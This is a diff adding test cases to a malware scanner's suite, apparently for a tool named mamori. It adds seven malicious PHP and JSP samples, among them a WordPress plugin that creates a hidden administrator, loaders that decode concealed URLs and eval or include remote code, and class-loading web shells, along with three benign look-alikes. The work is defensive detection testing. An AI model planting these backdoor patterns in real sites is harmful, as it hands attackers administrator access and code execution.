@@ -226,3 +226,93 @@ describe('scan: held-out set I (session 25), its misses, samples of our own', ()
     assert.equal(I_BENIGN.length, 3);
   });
 });
+
+// Sets K and L (session 25, held out until their one scan, made after I's and the red team's fixes): their misses, written again by us.
+const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');
+const KL_MALICIOUS: [string, string, string, string][] = [
+  ['a plugin making an administrator with a name of its own on every request', 'mamori:wp-admin-on-hook', '/www/wp-content/plugins/helper/helper.php', `<?php
+/* Plugin Name: Site Helper */
+function site_helper_account() {
+  if (get_user_by('login', 'svc-helper')) return;
+  $id = wp_create_user('svc-helper', 'S3rv1ce!', 'svc@example.org');
+  (new WP_User($id))->set_role('administrator');
+}
+add_action('init', 'site_helper_account');`],
+  ['an address written as hex text, decoded by the file, its code run', 'mamori:hidden-address-code', '/www/loader.php', `<?php
+$ref = '${hex('https://files.example.net/panel.txt')}';
+function h2s($h) { $s = ''; for ($i = 0; $i < strlen($h) - 1; $i += 2) { $s .= chr(hexdec($h[$i] . $h[$i + 1])); } return $s; }
+$code = @file_get_contents(h2s($ref));
+eval('?>' . $code);`],
+  ['an address written as Base64 text, its code saved as PHP and included', 'mamori:hidden-address-code', '/www/l2.php', `<?php
+$where = base64_decode('${b64('https://files.example.net/p.txt')}');
+$dst = '/tmp/.cache_' . md5(__FILE__) . '.php';
+file_put_contents($dst, file_get_contents($where));
+include $dst;`],
+  ['a raw repository address without its scheme, fetched to a .php and included', 'mamori:paste-site-code', '/www/t.php', `<?php
+$src = 'raw.githubusercontent.com/someone/kit/main/panel.php';
+$dst = '/tmp/sess_' . md5($_SERVER['HTTP_HOST']) . '.php';
+if (!file_exists($dst)) { $h = fopen($dst, 'w'); fwrite($h, file_get_contents('https://' . $src)); fclose($h); }
+include $dst;`],
+  ['fetched text written after an opening tag, included and deleted', 'mamori:code-run-and-deleted', '/www/wp-load.php', `<?php
+$page = file_get_contents(base64_decode($cfg));
+preg_match('#<b>(.*)</b>#s', $page, $m);
+$h = fopen('.cache', 'w');
+fwrite($h, "<?php\\n$m[1]\\n?>");
+fclose($h);
+include '.cache';
+unlink('.cache');
+?><?php /* the site's own bootstrap follows */`],
+  ['a JSP defining its class from bytes in the page and calling it with the request\'s values', 'mamori_jsp_classloader_shell', '/www/c.jsp', `<%@ page import="java.lang.reflect.*" %><%
+  byte[] b = fromHex("CAFEBABE0000");
+  Loader l = new Loader(); Class c = l.make(b);
+  Method go = c.getMethod("go", new Class[]{ String.class, String.class, OutputStream.class });
+  go.invoke(null, new Object[]{ request.getParameter("a"), request.getParameter("b"), response.getOutputStream() });
+%><%! class Loader extends ClassLoader { Class make(byte[] b) { return defineClass(null, b, 0, b.length); } } %>`],
+  ['a JSP defining a Base64 class through defineClass opened by reflection, then making an instance', 'mamori_jsp_define_class_opened', '/www/p.jsp', `<%
+  ClassLoader cl = Thread.currentThread().getContextClassLoader();
+  byte[] code = java.util.Base64.getDecoder().decode(PAYLOAD);
+  java.lang.reflect.Method d = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
+  d.setAccessible(true);
+  ((Class) d.invoke(cl, code, 0, code.length)).newInstance();
+%>`],
+];
+const KL_BENIGN: [string, string, string][] = [
+  ['a plugin making editors from the admin form, behind its capability check', '/www/wp-content/plugins/team/team.php', `<?php
+add_action('admin_post_team_add', function () {
+  if (!current_user_can('create_users')) wp_die('no');
+  check_admin_referer('team_add');
+  $id = wp_create_user(sanitize_user($_POST['login']), wp_generate_password(), sanitize_email($_POST['email']));
+  (new WP_User($id))->set_role('editor');
+});
+add_action('init', 'team_register_post_type');`],
+  ['an updater fetching from a Base64-written address into a JSON cache, and including its config', '/www/update.php', `<?php
+$api = base64_decode('${b64('https://api.example.org/v1/releases')}');
+file_put_contents(__DIR__ . '/cache/releases.json', file_get_contents($api));
+include __DIR__ . '/config.php';`],
+  ['a template cache written as PHP and included, never deleted', '/www/view.php', `<?php
+$compiled = compile_template(file_get_contents('page.tpl'));
+file_put_contents(CACHE . '/page.php', '<?php ' . $compiled);
+include CACHE . '/page.php';
+if (filemtime('page.tpl') > time()) unlink(CACHE . '/old.php');`],
+];
+
+describe('scan: held-out sets K and L (session 25), their misses, samples of our own', () => {
+  for (const [name, rule, path, src] of KL_MALICIOUS) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
+    });
+  }
+  for (const [name, path, src] of KL_BENIGN) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
+      assert.ok(!r.findings.some((f) => /wp-admin-on-hook|hidden-address-code|code-run-and-deleted/.test(f.rule)), JSON.stringify(r.findings));
+    });
+  }
+  it('ran every case', () => {
+    assert.equal(KL_MALICIOUS.length, 7);
+    assert.equal(KL_BENIGN.length, 3);
+  });
+});
